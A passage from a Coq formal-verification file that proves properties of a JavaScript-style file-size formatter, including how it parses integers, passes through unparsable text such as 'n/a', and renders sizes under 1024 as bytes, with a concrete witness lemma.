     FormatSize.parseInt10 sizeStr = FormatSize.NotANumber ->
     FormatSize.formatSize floatText toFixed1 sizeStr = sizeStr)
  /\ (forall sizeStr : jsstring,
        FormatSize.digitPrefix (trimStart sizeStr) = [] ->
        match trimStart sizeStr with
        | c :: _ => c <> 45%N /\ c <> 43%N
        | [] => True
        end ->
        FormatSize.parseInt10 sizeStr = FormatSize.NotANumber)
  /\ (forall (ws rest : jsstring) (n : nat),
        Forall (fun c => isWhiteSpace c = true) ws ->
        match rest with c :: _ => isDigit c = false | [] => True end ->
        FormatSize.parseInt10 (ws ++ String_nat n ++ rest)
        = if (Z.of_nat n <=? 9007199254740992)%Z
          then FormatSize.Exact (Z.of_nat n)
          else FormatSize.Rounded (Z.of_nat n))
  /\ (forall n : nat,
        n < 1024 ->
        FormatSize.formatSize floatText toFixed1 (String_nat n)
        = String_nat n ++ js " B").
Proof.
  assert (Hnum : forall n : nat,
            FormatSize.numberFor (Z.of_nat n)
            = if (Z.of_nat n <=? 9007199254740992)%Z
              then FormatSize.Exact (Z.of_nat n)
              else FormatSize.Rounded (Z.of_nat n)).
  { intros n. unfold FormatSize.numberFor.
    rewrite Z.abs_eq by lia. reflexivity. }
  split; [|split; [|split]].
  - intros sizeStr H. unfold FormatSize.formatSize. rewrite H. reflexivity.
  - intros sizeStr Hd Hs. unfold FormatSize.parseInt10. cbv zeta.
    destruct (trimStart sizeStr) as [|c rest]; [reflexivity|].
    destruct Hs as [H45 H43].
    apply N.eqb_neq in H45, H43. rewrite H45, H43. cbn [orb].
    rewrite Hd. reflexivity.
  - intros ws rest n Hws Hrest.
    rewrite (parseInt10_numeral ws rest n Hws Hrest). apply Hnum.
  - intros n Hn. unfold FormatSize.formatSize.
    pose proof (parseInt10_numeral [] [] n ltac:(constructor) I) as H.
    cbn [app] in H. rewrite app_nil_r in H. rewrite H, Hnum.
    destruct (Z.leb_spec (Z.of_nat n) 9007199254740992); [|lia].
    destruct (Z.ltb_spec (Z.of_nat n) 1024); [|lia].
    unfold String_number.
    destruct (Z.ltb_spec (Z.of_nat n) 0); [lia|].
    rewrite Nat2Z.id. reflexivity.
Qed.

(** The size 512 is written "512 B"; the text "n/a" holds no number and is
    given back as it is; " 42abc" is read as 42. *)
Lemma X26_formatSize_small_and_unparsable_witness :
  512 < 1024
  /\ FormatSize.formatSize (fun _ => []) (fun _ _ => []) (String_nat 512)
     = String_nat 512 ++ js " B"
  /\ FormatSize.formatSize (fun _ => []) (fun _ _ => []) (js "n/a") = js "n/a"
  /\ FormatSize.parseInt10 (js " 42abc") = FormatSize.Exact 42.
Proof.
  assert (H : 512 < 1024) by lia.
  split; [exact H|]. split; [|split].
  - exact (proj2 (proj2 (proj2 (X26_formatSize_small_and_unparsable
                                  (fun _ => []) (fun _ _ => [])))) 512 H).
  - exact (proj1 (X26_formatSize_small_and_unparsable
                    (fun _ => []) (fun _ _ => [])) (js "n/a") eq_refl).
  - exact (proj1 (proj2 (proj2 (X26_formatSize_small_and_unparsable
                                  (fun _ => []) (fun _ _ => []))))
                 (js " ") (js "abc") 42
                 ltac:(repeat constructor) eq_refl).
Defined.
